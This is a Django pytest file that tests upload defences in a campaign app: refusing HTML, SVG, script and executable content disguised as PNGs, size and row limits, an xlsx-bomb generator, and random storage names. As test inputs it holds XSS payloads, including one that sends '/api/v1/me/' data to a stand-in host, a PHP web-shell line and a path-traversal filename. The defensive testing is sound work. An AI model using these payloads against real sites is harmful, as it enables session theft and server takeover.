"""Uploads as an attacker sends them: markup and scripts disguised as images, files too big to read,
bodies too big to parse, and stored files that must never be reachable at a URL of their own or
land in MEDIA_ROOT under a name a web server would render."""

import json
import re
import stat

import pytest
from axes.models import AccessAttempt
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve, reverse

from campaigns.attachments import filetypes, services
from campaigns.imports.files import spooled
from campaigns.imports.services import import_upload
from campaigns.models import CampaignAttachment, ImportBatch

pytestmark = pytest.mark.django_db

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SPEND_CSV = b"Date,Campaign,Spend,Currency\n2026-01-10,spring-webinars,100.00,USD\n"
ALLOWED = "allowed: PDF, PNG, JPEG, GIF, WebP, Word, Excel, PowerPoint, text, CSV."


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(root) -> list:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


class Unreadable:
    """An upload whose declared size is all a check may look at: reading any of it fails the test."""

    def __init__(self, name, size):
        self.name, self.size = name, size

    def chunks(self, chunk_size=None):
        raise AssertionError("the file was read")

    def read(self, *args):
        raise AssertionError("the file was read")

    def seek(self, *args):
        return 0


class Endless:
    """An upload of unknown size (a chunked request body) that counts what was read from it."""

    def __init__(self, name, head=b"", chunk=64 * 1024):
        self.name, self.size, self.head, self.chunk, self.read_bytes = name, None, head, chunk, 0

    def chunks(self, chunk_size=None):
        block = self.head + b"a" * (self.chunk - len(self.head))
        while True:
            self.read_bytes += len(block)
            yield block
            block = b"a" * self.chunk

    def seek(self, *args):
        return 0


# --- markup and scripts with an image's name ------------------------------------------------


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>", "HTML"),
        (b"<script>fetch('/api/v1/me/').then(r => r.text()).then(t => new Image().src='//x/?'+t)</script>", "HTML"),
        (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
        (b"\xef\xbb\xbf  \n<svg><script>alert(1)</script></svg>", "SVG"),  # a BOM and blank lines first
        (b"<?php system($_GET['c']); ?>", "HTML"),
        (b"<iframe src=javascript:alert(1)>", "HTML"),
    ],
)
def test_markup_named_png_is_refused(campaign, marketer, media_root, content, what):
    with pytest.raises(ValidationError) as refused:
        services.attachment_add(
            actor=marketer,
            campaign=campaign,
            uploaded_file=SimpleUploadedFile("logo.png", content, content_type="image/png"),
            kind="creative",
        )
    assert refused.value.message_dict == {"file": [f"{what} files cannot be attached; {ALLOWED}"]}
    assert stored_files(media_root) == []


@pytest.mark.parametrize(
    "content", [b"alert(document.cookie);\n", b"#!/usr/bin/env python\nimport os\n", b"MZ\x90\x00" + bytes(60)]
)
def test_scripts_and_programs_named_png_are_refused(campaign, marketer, media_root, content):
    with pytest.raises(ValidationError) as refused:
        services.attachment_add(
            actor=marketer, campaign=campaign, uploaded_file=SimpleUploadedFile("logo.png", content), kind="creative"
        )
    message = refused.value.message_dict["file"][0]
    assert "cannot be attached" in message or "is a text file but its name ends in .png" in message
    assert stored_files(media_root) == []


def test_the_page_upload_of_disguised_html_stores_nothing(client, campaign, marketer, media_root):
    client.force_login(marketer)
    page = SimpleUploadedFile("photo.png", b"<html><script>alert(1)</script></html>", content_type="image/png")

    response = client.post(
        reverse("campaigns:attachment-add", args=[campaign.pk]), {"kind": "creative", "file": page}, follow=True
    )

    assert response.status_code == 200
    assert "HTML files cannot be attached" in response.content.decode()
    assert not CampaignAttachment.objects.exists() and stored_files(media_root) == []


def test_a_png_with_html_inside_is_only_ever_a_download(client, campaign, marketer, media_root):
    """A real PNG header followed by markup passes as a PNG; what keeps it harmless is how it is
    stored (a random name ending .png, no execute bit) and served (a download nothing may sniff,
    render or script)."""
    polyglot = PNG_MAGIC + b"\x00\x00\x00\rIHDR<html><script>alert(1)</script></html>"
    attachment = services.attachment_add(
        actor=marketer, campaign=campaign, uploaded_file=SimpleUploadedFile("logo.png", polyglot), kind="creative"
    )
    [stored] = stored_files(media_root)
    assert stored.suffix == ".png" and "logo" not in stored.name
    assert stat.S_IMODE(stored.stat().st_mode) & 0o111 == 0  # FILE_UPLOAD_PERMISSIONS: never executable
    client.force_login(marketer)

    response = client.get(reverse("campaigns:attachment-download", args=[attachment.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'attachment; filename="logo.png"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["Cache-Control"] == "private"


# --- too big: refused before being read whole -----------------------------------------------


def test_an_attachment_declared_too_big_is_refused_unread(settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    with pytest.raises(ValidationError, match="attachments can be at most 1 KB"):
        filetypes.check(Unreadable("huge.pdf", 10 * 1024 * 1024 * 1024))


def test_an_attachment_of_unknown_size_is_read_only_up_to_the_limit(settings):
    settings.ATTACHMENT_MAX_BYTES = 200 * 1024
    endless = Endless("huge.pdf", head=PDF)
    with pytest.raises(ValidationError, match="attachments can be at most 200 KB"):
        filetypes.check(endless)
    assert endless.read_bytes <= settings.ATTACHMENT_MAX_BYTES + endless.chunk


def test_an_import_declared_too_big_is_refused_unread(settings, marketer):
    settings.IMPORT_MAX_BYTES = 1024
    with pytest.raises(ValidationError, match="limit"):
        import_upload(actor=marketer, file=Unreadable("huge.csv", 10 * 1024 * 1024 * 1024), filename="huge.csv")
    assert not ImportBatch.objects.exists()


def test_an_import_of_unknown_size_is_spooled_only_up_to_the_limit(settings, tmp_path, monkeypatch):
    settings.IMPORT_MAX_BYTES = 200 * 1024
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    endless = Endless("huge.csv", head=SPEND_CSV)
    with pytest.raises(ValidationError, match="limit"), spooled(endless):
        pass
    assert endless.read_bytes <= settings.IMPORT_MAX_BYTES + endless.chunk
    assert list(tmp_path.iterdir()) == []  # the partial copy is gone


# --- workbooks are read by their real cells, within limits (issue 19 §6) ----------------------


def xlsx_bomb(*, far_cell: bool = True) -> bytes:
    """The issue's file: a header and one row, a sheet that declares A1:XFD1048576 and (``far_cell``)
    one cell at XFD1048576. openpyxl writes the workbook; the sheet's XML is then rewritten."""
    import io
    import re
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Date", "Campaign", "Spend"])
    workbook.active.append(["2026-01-10", "spring-webinars", 100])
    plain = io.BytesIO()
    workbook.save(plain)
    bomb = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', data.decode())
                assert 'ref="A1:XFD1048576"' in text
                if far_cell:
                    far = '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'
                    text = text.replace("</sheetData>", far + "</sheetData>")
                data = text.encode()
            target.writestr(info.filename, data)
    return bomb.getvalue()


def test_a_workbook_with_a_far_cell_is_refused_at_once_naming_the_limit(marketer, campaign, media_root):
    bomb = xlsx_bomb()
    assert len(bomb) < 8 * 1024
    with pytest.raises(ValidationError) as refused:
        import_upload(actor=marketer, file=ContentFile(bomb, name="b.xlsx"), filename="b.xlsx")
    assert refused.value.message_dict["file"] == [
        "The file has data in row 1,048,576; imports read at most 1,000,000 rows. "
        "Split the file, or delete what lies below the data."
    ]
    assert not ImportBatch.objects.exists() and stored_files(media_root) == []


def test_a_far_column_is_refused_naming_the_column_and_the_limit(settings, marketer, campaign):
    settings.IMPORT_MAX_ROWS = 2_000_000  # past the row: the column is what gives it away
    with pytest.raises(
        ValidationError, match=r"data in column XFD \(16,384\) of row 1,048,576; .* at most 500 columns"
    ):
        import_upload(actor=marketer, file=ContentFile(xlsx_bomb(), name="b.xlsx"), filename="b.xlsx")


def test_the_api_answers_the_bomb_with_a_json_400(api_as, marketer, campaign):
    file = SimpleUploadedFile("b.xlsx", xlsx_bomb())
    answer = api_as(marketer).post("/api/v1/imports/", {"file": file}, format="multipart")
    assert answer.status_code == 400
    assert "imports read at most 1,000,000 rows" in answer.json()["file"][0]


def test_a_declared_size_is_not_what_is_read(settings, marketer, campaign):
    """A sheet that only declares A1:XFD1048576 is read by its cells: its one row, quickly."""
    settings.IMPORT_MAX_ROWS = 100  # no real cell is near it: the declared million rows are not read
    settings.IMPORT_MAX_COLUMNS = 10
    batch = import_upload(actor=marketer, file=ContentFile(xlsx_bomb(far_cell=False), name="b.xlsx"), filename="b")
    assert (batch.status, batch.rows_total, batch.errors) == ("uploaded", 1, [])


def test_a_workbook_that_unpacks_past_the_limit_is_refused(settings, marketer, campaign):
    settings.IMPORT_MAX_UNPACKED_BYTES = 4096
    with pytest.raises(ValidationError, match="unpacks to 0 MB; imports read workbooks of at most 0 MB"):
        import_upload(actor=marketer, file=ContentFile(xlsx_bomb(), name="b.xlsx"), filename="b.xlsx")


@pytest.mark.parametrize(
    ("limits", "content", "message"),
    [
        (
            {"IMPORT_MAX_ROWS": 10},
            SPEND_CSV + SPEND_CSV.split(b"\n")[1] * 0 + b"2026-01-11,spring-webinars,1\n" * 10,
            "imports read at most 10 rows",
        ),
        (
            {"IMPORT_MAX_COLUMNS": 10},
            SPEND_CSV + b"2026-01-11,spring-webinars,1" + b",x" * 10 + b"\n",
            "data in column M (13) of row 3; imports read at most 10 columns",
        ),
    ],
)
def test_text_files_obey_the_same_limits(settings, marketer, campaign, limits, content, message):
    for name, value in limits.items():
        setattr(settings, name, value)
    with pytest.raises(ValidationError, match=re.escape(message)):
        import_upload(actor=marketer, file=ContentFile(content, name="x.csv"), filename="x.csv")


def test_a_large_file_is_checked_by_the_worker_not_the_request(
    settings, marketer, campaign, django_capture_on_commit_callbacks
):
    from campaigns.imports.services import import_start

    settings.IMPORT_CHECK_IN_REQUEST_BYTES = 64
    content = SPEND_CSV + b"2026-01-11,spring-webinars,5.00,USD\n2026-01-12,spring-webinars,-1,USD\n"
    with django_capture_on_commit_callbacks(execute=False) as sent:
        batch = import_upload(actor=marketer, file=ContentFile(content, name="x.csv"), filename="x.csv")
    assert (batch.status, batch.rows_total, batch.format) == ("checking", 0, "generic")
    assert [c["field"] for c in batch.columns] == ["date", "campaign", "spend", "currency"]  # the header is read
    with pytest.raises(ValidationError, match="still being checked"):
        import_start(actor=marketer, batch=batch)

    for task in sent:  # the worker's turn
        task()
    batch.refresh_from_db()
    assert (batch.status, batch.rows_total, batch.rows_rejected) == ("uploaded", 3, 1)
    assert batch.errors == [{"row": 4, "message": "spend -1 is negative"}]


def test_a_large_file_past_a_limit_fails_in_the_worker_saying_why(
    settings, marketer, campaign, django_capture_on_commit_callbacks
):
    settings.IMPORT_CHECK_IN_REQUEST_BYTES = 64
    settings.IMPORT_MAX_ROWS = 10
    content = SPEND_CSV + b"2026-01-11,spring-webinars,1,USD\n" * 20
    with django_capture_on_commit_callbacks(execute=True):
        batch = import_upload(actor=marketer, file=ContentFile(content, name="x.csv"), filename="x.csv")
    batch.refresh_from_db()
    assert batch.status == "failed"
    assert batch.errors == [
        {
            "row": None,
            "message": "The file has data in row 11; imports read at most 10 rows. "
            "Split the file, or delete what lies below the data.",
        }
    ]


# --- stored files: no URL of their own, no name of the uploader's ---------------------------


def test_an_import_is_stored_under_a_random_name_whatever_it_was_called(marketer, campaign, media_root, client):
    batch = import_upload(
        actor=marketer, file=ContentFile(SPEND_CSV, name="x"), filename="../../<script>alert(1)</script>.html"
    )
    [stored] = stored_files(media_root)
    assert stored.suffix == ".csv" and "script" not in stored.name and "html" not in stored.name
    assert stored.is_relative_to(media_root)
    assert batch.filename == "../../<script>alert(1)</script>.html"  # shown as typed, escaped by templates

    with pytest.raises(Resolver404):
        resolve(f"/media/{batch.file.name}")
    client.force_login(marketer)
    assert client.get(f"/media/{batch.file.name}").status_code == 404
    assert client.get("/media/").status_code == 404


def test_no_url_serves_media_root():
    from tests.urlwalk import all_paths

    assert [path for path in all_paths() if path.startswith("/media")] == []


# --- request bodies -------------------------------------------------------------------------


def test_django_upload_limits_are_set(settings):
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440  # bigger files go to disk while read
    assert 1024 * 1024 <= settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 10 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_NUMBER_FIELDS == 1000
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES <= 10
    assert settings.FILE_UPLOAD_PERMISSIONS & 0o111 == 0


def test_an_oversized_json_body_is_refused_before_parsing(api, settings, marketer):
    """Anyone may call the token endpoint: a huge body must not be parsed (or reach the log-in)."""
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    body = json.dumps({"username": marketer.username, "password": "x" * (100 * 1024)})

    response = api.post("/api/v1/auth/token/", body, content_type="application/json")

    assert response.status_code == 400
    assert not AccessAttempt.objects.exists()  # authenticate() never ran


def test_a_form_with_too_many_fields_is_refused(client, marketer, campaign):
    client.force_login(marketer)
    fields = {f"f{i}": "x" for i in range(1001)}
    response = client.post(reverse("campaigns:spend-log", args=[campaign.pk]), fields)
    assert response.status_code == 400


def test_the_page_says_a_large_file_is_being_checked_and_polls(settings, client, marketer, campaign):
    settings.IMPORT_CHECK_IN_REQUEST_BYTES = 64
    client.force_login(marketer)
    file = SimpleUploadedFile("x.csv", SPEND_CSV * 2, content_type="text/csv")
    page = client.post(reverse("campaigns:import-upload"), {"file": file, "commit_mode": "all"}, follow=True)
    content = page.content.decode()
    batch = ImportBatch.objects.get()
    assert batch.status == "checking"
    assert "uploaded; a worker is checking its rows" in content
    assert "Checking every row of the file" in content
    assert f'hx-get="{reverse("campaigns:import-progress", args=[batch.pk])}"' in content


def test_a_large_file_is_checked_again_by_the_worker_after_its_mapping(
    settings, marketer, campaign, django_capture_on_commit_callbacks
):
    from campaigns.imports.services import import_map

    settings.IMPORT_CHECK_IN_REQUEST_BYTES = 64
    content = SPEND_CSV + b"2026-01-11,Old test,5.00,USD\n2026-01-12,Brand US,7.00,USD\n"
    with django_capture_on_commit_callbacks(execute=True):
        batch = import_upload(actor=marketer, file=ContentFile(content, name="x.csv"), filename="x.csv")
    batch.refresh_from_db()
    assert (batch.status, batch.unknown_campaigns) == ("uploaded", ["Brand US", "Old test"])

    with django_capture_on_commit_callbacks(execute=False) as sent:
        batch = import_map(actor=marketer, batch=batch, mapping={"Old test": None, "Brand US": campaign})
    assert batch.status == "checking"  # not in the request
    for task in sent:
        task()
    batch.refresh_from_db()
    assert (batch.status, batch.unknown_campaigns, batch.rows_total, batch.rows_rejected) == ("uploaded", [], 3, 1)
    assert batch.errors == [
        {"row": None, "ref": "Old test", "rows": 1, "message": "1 row of 'Old test' skipped: mapped to no campaign."}
    ]
